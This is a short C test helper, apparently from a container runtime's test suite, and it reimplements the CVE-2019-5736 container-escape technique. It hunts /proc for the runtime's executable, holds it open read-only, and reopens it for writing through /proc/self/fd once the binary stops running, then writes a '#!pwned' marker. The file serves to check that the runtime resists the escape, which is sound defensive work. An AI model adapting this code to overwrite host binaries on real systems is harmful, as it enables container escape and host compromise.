#include "tests/tools/escape_exe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int exe_overwrite(const char *pid)
{
	char path[64], c;
	int fd;

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return perror(path), 1;
	puts("open");
	fflush(stdout);
	while (read(0, &c, 1) > 0)
		;
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	/* Busy as long as somebody runs it. */
	while ((fd = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY)
		sched_yield();
	if (fd < 0 || write(fd, "#!pwned", 7) != 7)
		return perror("write"), 1;
	puts("wrote");
	return 0;
}

/* As the payload of CVE-2019-5736 does it: to read first, for it runs; to write as soon as nobody runs it. */
static void seize(const char *pid)
{
	char path[320], to[256];
	ssize_t n;
	int fd, held;

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	n = readlink(path, to, sizeof to - 1);
	to[n > 0 ? n : 0] = '\0';
	/* All programs of the container itself lie there; the runtime's has a name that means nothing inside. */
	if (n <= 0 || strncmp(to, "/bin/", 5) == 0 || (held = open(path, O_RDONLY | O_CLOEXEC)) < 0)
		return;
	puts("saw");
	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
	while ((fd = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && access("/stop", F_OK) < 0)
		;
	if (fd >= 0 && write(fd, "#!pwned", 7) == 7)
		puts("wrote");
	fflush(stdout);
	close(fd);
	close(held);
}

int exe_hunt(void)
{
	puts("up");
	fflush(stdout);
	while (access("/stop", F_OK) < 0) {
		DIR *d = opendir("/proc");

		for (struct dirent *e; d && (e = readdir(d));)
			if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && atoi(e->d_name) != getpid())
				seize(e->d_name);
		closedir(d);
	}
	return 0;
}
